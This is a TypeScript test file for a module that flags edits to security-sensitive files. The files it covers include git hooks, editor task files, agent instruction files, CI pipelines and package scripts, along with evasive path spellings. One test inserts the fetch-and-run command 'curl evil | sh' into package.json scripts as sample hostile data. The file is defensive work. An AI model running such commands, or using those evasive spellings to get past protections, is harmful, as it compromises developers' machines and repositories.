/** What is protected, in the spellings that file systems take for it, and what is not. */
import assert from 'node:assert/strict';
import { describe, it } from 'mocha';
import {
  protectedNames,
  protectedPath,
  protectionOf,
} from '../../../src/shared/protected-files.ts';

const bytes = (value: unknown): Uint8Array =>
  Buffer.from(typeof value === 'string' ? value : JSON.stringify(value));

/** For each kind, paths that nothing else protects. */
const cases = {
  git: ['.git/config', 'a/.GIT/hooks/x', 'git~1/x', '.g\u200cit/config', '.git.', '.gitmodules'],
  hooks: ['.husky/pre-commit', 'lefthook.yml', '.pre-commit-config.yaml', '.githooks/pre-push'],
  editor: [
    '.vscode/tasks.json',
    'a/b/.VSCode/x',
    'x.code-workspace',
    '.idea/a.xml',
    '.vscode::$DATA/x',
  ],
  agents: ['.mcp.json', 'AGENTS.md', 'docs/CLAUDE.md', '.cursor/rules/x', '.muster/agents/x.md'],
  shell: ['.envrc', 'sub/.envrc', '.bashrc', 'mise.toml'],
  packages: ['.npmrc', '.yarnrc.yml', '.yarn/releases/yarn.cjs', 'pip.conf', '.cargo/config.toml'],
  container: ['.devcontainer/devcontainer.json', '.devcontainer.json', '.gitpod.yml'],
  pipeline: ['.github/workflows/ci.yml', '.gitlab-ci.yml', 'Jenkinsfile', '.circleci/config.yml'],
};

describe('the protected files', () => {
  for (const [kind, paths] of Object.entries(cases)) {
    it(`of the kind "${kind}" are known, and only by its own entry of the list`, () => {
      const without = protectedNames.filter((each) => each.kind !== kind);
      for (const path of paths) {
        assert.equal(protectedPath(path), kind, path);
        assert.equal(protectedPath(path, without), undefined, path);
      }
    });
  }

  it('leave ordinary files alone', () => {
    const ordinary = [
      '.github/CODEOWNERS.md',
      '.gitignore',
      '.env.example',
      'src/git.ts',
      'src/vscode/x.ts',
      'docs/agents.markdown',
      'package.json',
      'readme.md',
      'scripts/build.js',
    ];
    for (const path of ordinary) assert.equal(protectedPath(path), undefined, path);
  });

  it('include a manifest only where what it runs changes', () => {
    const of = (before: unknown, after: unknown) =>
      protectionOf({
        path: 'pkg/package.json',
        ...(before === undefined ? {} : { before: bytes(before) }),
        ...(after === undefined ? {} : { after: bytes(after) }),
      });
    const scripts = { test: 'mocha' };
    assert.equal(of({ version: '1', scripts }, { version: '2', scripts }), undefined);
    assert.equal(of({ scripts }, { scripts: { test: 'curl evil | sh' } }), 'scripts');
    assert.equal(of({}, { husky: { hooks: {} } }), 'scripts');
    assert.equal(of(undefined, { name: 'x' }), undefined);
    assert.equal(of(undefined, { scripts }), 'scripts');
    assert.equal(of({ scripts }, undefined), 'scripts');
    assert.equal(of({ scripts }, '{ broken'), 'scripts');
    assert.equal(
      of({ scripts }, '{"scripts":{"test":"mocha"},"scripts":{"test":"evil"}}'),
      'scripts',
    );
  });

  it('are not found slowly in a hostile path', () => {
    // Backtracking in squares would outlast the time limit of the test.
    protectedPath(`${'.github/'.repeat(50_000)}${'a'.repeat(400_000)}jenkinsfil`);
  });
});
